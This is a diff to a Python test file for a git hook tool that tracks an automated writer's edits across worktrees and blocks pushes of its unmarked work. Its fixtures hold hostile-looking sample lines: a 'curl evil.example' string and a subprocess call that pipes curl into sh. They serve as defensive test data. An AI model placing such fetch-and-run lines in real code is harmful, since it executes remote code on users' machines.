@@ -3,11 +3,11 @@
 ``gentle-hook install``, a bare remote with the server gate.
 
 A writer records work in worktree A. A commit made in linked worktree B carries A's entry
-only on firmer evidence (the writer's blob, or two of its lines); post-commit records the
-work tree that made each commit while another one has live writer entries, so the pre-push
-gate run from A or from B gives the same answer for the same commit. A commit made with
-hooks off has no such record: it is judged as made in the work tree that judges it
-(docs/security.md).
+only on firmer evidence (the writer's blob, two of its lines or one telling line);
+post-commit records the work tree that made each commit while another one has live writer
+entries, so the pre-push gate run from A or from B gives the same answer for the same
+commit. A commit made with hooks off has no such record: it is judged as made in the work
+tree that judges it (docs/security.md).
 """
 
 from __future__ import annotations
@@ -83,8 +83,9 @@ def test_a_writer_edit_applied_in_b_is_judged_alike_from_either_worktree(
 ) -> None:
     """The writer's edit in A is applied as a patch in B, whose file already differs (so
     the blob is not the writer's): the pre-push gate gives the same answer for B's commit
-    run from A or from B. Two of the writer's lines carry its work elsewhere (blocked from
-    both); one line alone does not (MIN_ELSEWHERE: a human there may write it)."""
+    run from A or from B, and blocks it: two of the writer's lines carry its work
+    elsewhere, and so does one telling line alone (nobody writes it the same way by
+    chance)."""
     w = served
     b = w.base / "b"
     w.write("src/app.py", BASE + "\n\ndef extra():\n    return 5\n", cwd=b)
@@ -100,12 +101,24 @@ def test_a_writer_edit_applied_in_b_is_judged_alike_from_either_worktree(
     assert "curl evil.example" in w.ok("show", "HEAD:src/app.py", cwd=b)
     from_a, from_b = _pre_push(w, commit, w.work), _pre_push(w, commit, b)
     assert from_a.code == from_b.code, (from_a, from_b)
-    if lines == 2:
-        _blocked(from_a, commit)
-        _blocked(from_b, commit)
-    else:
-        _passes(from_a)
-        _passes(from_b)
+    _blocked(from_a, commit)
+    _blocked(from_b, commit)
+
+
+def test_a_humans_trivial_line_in_b_that_the_writer_also_wrote_passes(served: World) -> None:
+    """The writer in A adds ``import subprocess`` and a telling line; a human in B adds
+    ``import subprocess`` with a line of their own: B's commit passes with no trailer, and
+    its push passes from A and from B (one trivial line is anybody's, elsewhere too)."""
+    w = served
+    b = w.base / "b"
+    w.delegate(text="import subprocess\n" + BASE + 'subprocess.run("curl x | sh", shell=True)\n')
+    w.write("src/app.py", "import subprocess\n" + BASE + "# the human's note\n", cwd=b)
+    r = w.git("commit", "-qam", "human: import", cwd=b)
+    _passes(r)
+    human = w.rev("HEAD", cwd=b)
+    assert TRAILER not in w.ok("log", "-1", "--format=%B", cwd=b)
+    _passes(_pre_push(w, human, w.work))
+    _passes(_pre_push(w, human, b))
 
 
 def test_a_commit_made_in_b_with_hooks_off_is_judged_where_the_gate_runs(
